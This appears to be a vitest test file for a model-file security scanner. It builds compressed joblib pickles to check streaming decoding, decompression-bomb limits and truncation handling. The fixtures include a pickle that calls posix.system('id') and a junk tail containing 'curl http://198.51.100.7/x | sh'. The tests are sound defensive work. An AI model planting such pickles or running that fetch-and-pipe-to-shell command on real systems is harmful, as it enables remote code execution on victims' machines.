// A zlib or gzip pickle (joblib.dump(compress=...)) is decoded once (formats/compressed/unsized.ts):
// the pickle scanner reads the decoder's output as it comes, the stream's size is the bomb cap until
// the decoder reaches the end, and the first read that reaches it learns the exact size. Each attack
// here is built in code (fflate) and scanned with the decoders counted.
import { afterEach, describe, expect, it } from 'vitest';
import { zlibSync, gzipSync } from 'fflate';
import { scan, fromBytes, type FileReport } from '../../src/engine';
import { fflateFactory, usePlatformFlate, type FlateFormat } from '../../src/engine/io/flate';
import { PICKLE_CHUNK } from '../../src/engine/formats/pickle/disasm';
import { concat, noise } from '../helpers/bytes';

const MiB = 1024 * 1024;
const STREAMED = { limits: { maxMemberBytes: MiB } }; // above 1 MiB the output is streamed, not held
const latin1 = (s: string) => new Uint8Array([...s].map((c) => c.charCodeAt(0)));
const CALL = latin1('cposix\nsystem\nX\x02\x00\x00\x00id\x85Re.');
/** Protocol 4: [bytes blob, posix.system('id')], then `after` (bytes after STOP). */
function pickleWithTail(blob: Uint8Array, after: Uint8Array = new Uint8Array(0)): Uint8Array {
  const len = new Uint8Array(4);
  new DataView(len.buffer).setUint32(0, blob.length, true);
  return concat(latin1('\x80\x04]('), new Uint8Array([0x42]), len, blob, CALL, after);
}

/** The same pickle with its blob sized so that it is exactly `total` bytes long. */
const pickleOfLength = (total: number) => pickleWithTail(noise(total - 9 - CALL.length, 5));

function countDecoders(): Map<FlateFormat, number> {
  const made = new Map<FlateFormat, number>();
  usePlatformFlate((format, onData) => { made.set(format, (made.get(format) ?? 0) + 1); return fflateFactory(format, onData); });
  return made;
}
afterEach(() => usePlatformFlate(undefined));

const dangerous = (r: FileReport) => r.findings.filter((f) => f.ruleId === 'pickle/dangerous-call');
const rules = (r: FileReport) => r.findings.map((f) => f.ruleId).sort();
const keys = (r: FileReport) => r.findings.map((f) => `${f.ruleId} ${f.location.path.slice(-1)} ${f.location.offset ?? ''}`).sort();
const pickleNode = (r: FileReport) => r.nodes.find((n) => n.format === 'pickle')!;
const compressedNode = (r: FileReport) => r.nodes.find((n) => n.format === 'compressed')!;

describe('zlib pickle decoded in one pass', () => {
  // The decoders counted: the first-block peek, the walk, and one restart because the 3 MiB bytes constant is
  // too large to keep and is read again for a pickle hidden inside it (pickle/embedded.ts searchRange). The
  // restart reads every such constant in order, so more of them cost no more passes (the test after next).
  it('decodes a streamed 3 MiB zlib pickle once for the walk (plus the first-block peek and one pass for the large-constant search), finds the call at its end and learns its exact size', async () => {
    const pkl = pickleWithTail(noise(3 * MiB, 7));
    const made = countDecoders();
    const r = await scan(fromBytes(zlibSync(pkl, { level: 1 }), 'forest.joblib'), STREAMED);
    expect(made.get('deflate')).toBe(3);
    expect(dangerous(r)).toHaveLength(1);
    expect(pickleNode(r).size).toBe(pkl.length);
    expect(compressedNode(r).notes).toMatchObject({ codec: 'zlib', decompressedBytes: pkl.length });
    expect(r.complete).toBe(true);
  });

  it('decodes a small zlib pickle once too, and scans it held in memory', async () => {
    const pkl = pickleWithTail(noise(200_000, 3));
    const made = countDecoders();
    const r = await scan(fromBytes(zlibSync(pkl), 'small.joblib'));
    expect(made.get('deflate')).toBe(2);
    expect(dangerous(r)).toHaveLength(1);
    expect(pickleNode(r).size).toBe(pkl.length);
  });

  it('learns the end of a pickle that ends exactly on a read boundary: no bytes after STOP, no padding, complete', async () => {
    for (const total of [2 * PICKLE_CHUNK, 2 * PICKLE_CHUNK + 1, 2 * PICKLE_CHUNK - 1]) {
      const pkl = pickleOfLength(total);
      expect(pkl.length).toBe(total);
      const r = await scan(fromBytes(zlibSync(pkl, { level: 1 }), 'edge.joblib'), STREAMED);
      expect(rules(r)).toEqual(['pickle/dangerous-call']);
      expect(pickleNode(r).size).toBe(total);
      expect(pickleNode(r).notes).not.toHaveProperty('trailingPadding');
      expect(r.complete).toBe(true);
    }
  });

  it('stops a pickle followed by 64 MiB of zeros in the same zlib stream at the ratio cap, after finding the call: bomb, incomplete', async () => {
    const pkl = pickleWithTail(noise(64 * 1024, 11), new Uint8Array(64 * MiB));
    const z = zlibSync(pkl, { level: 9 });
    const made = countDecoders();
    const r = await scan(fromBytes(z, 'padded.joblib'), STREAMED);
    // The peek and the pass; the sweep of the zeros after STOP, learning their end and reading their tail
    // first, may send the reader back twice: never more than the counted way (peek, count, stream, restart).
    expect(made.get('deflate')).toBeLessThanOrEqual(4);
    expect(dangerous(r)).toHaveLength(1);
    expect(r.findings.filter((f) => f.ruleId === 'archive/compression-bomb')).toHaveLength(1);
    expect(Number(compressedNode(r).notes?.decompressedBytes)).toBeLessThanOrEqual(200 * z.length);
    expect(r.complete).toBe(false);
  });

  it('gives the findings of the in-memory scan for a streamed zlib pickle with 3 MiB of junk after STOP, sized exactly', async () => {
    const pkl = pickleWithTail(noise(2 * MiB, 13), concat(latin1('curl http://198.51.100.7/x | sh\n'), noise(3 * MiB, 17)));
    const z = zlibSync(pkl, { level: 1 });
    const streamed = await scan(fromBytes(z, 'junk.joblib'), STREAMED);
    const inMemory = await scan(fromBytes(z, 'junk.joblib'));
    expect(keys(streamed)).toEqual(keys(inMemory));
    expect(streamed.nodes.map((n) => `${n.path.at(-1)} ${n.size} ${n.status}`)).toEqual(inMemory.nodes.map((n) => `${n.path.at(-1)} ${n.size} ${n.status}`));
    expect(streamed.complete).toBe(inMemory.complete);
  });

  it('reports a truncated streamed zlib pickle as corrupt and truncated after finding the call before the cut, never clean', async () => {
    const pkl = concat(latin1('\x80\x04]('), CALL.subarray(0, CALL.length - 2), new Uint8Array([0x42, 0, 0, 0x40, 0]), noise(4 * MiB, 19));
    const z = zlibSync(pkl, { level: 1 });
    const r = await scan(fromBytes(z.subarray(0, z.length >> 1), 'cut.joblib'), STREAMED);
    expect(dangerous(r)).toHaveLength(1);
    expect(r.findings.some((f) => f.ruleId === 'format/malformed' && /zlib/.test(f.message))).toBe(true);
    expect(r.findings.some((f) => f.ruleId === 'pickle/truncated')).toBe(true);
    expect(r.complete).toBe(false);
    expect(r.status).not.toBe('clean');
  });

  it('decodes a streamed gzip pickle the same way (peek, walk, one large-constant search pass)', async () => {
    const pkl = pickleWithTail(noise(3 * MiB, 23));
    const made = countDecoders();
    const r = await scan(fromBytes(gzipSync(pkl, { level: 1, mtime: 0 }), 'p.pkl.gz'), STREAMED);
    expect(made.get('gzip')).toBe(3);
    expect(dangerous(r)).toHaveLength(1);
    expect(pickleNode(r).size).toBe(pkl.length);
  });

  it('four 2 MiB constants too large to keep cost one search pass between them, not one each: the restart reads them in order', async () => {
    const len = (n: number) => { const b = new Uint8Array(4); new DataView(b.buffer).setUint32(0, n, true); return b; };
    const blobs = [1, 2, 3, 4].map((seed) => noise(2 * MiB, seed));
    const pkl = concat(latin1('\x80\x04]('), ...blobs.flatMap((b) => [new Uint8Array([0x42]), len(b.length), b]), CALL);
    const made = countDecoders();
    const r = await scan(fromBytes(zlibSync(pkl, { level: 1 }), 'many-arrays.pkl.z'), STREAMED);
    expect(made.get('deflate')).toBe(3);
    expect(dangerous(r)).toHaveLength(1);
    expect(r.complete).toBe(true);
  });
});
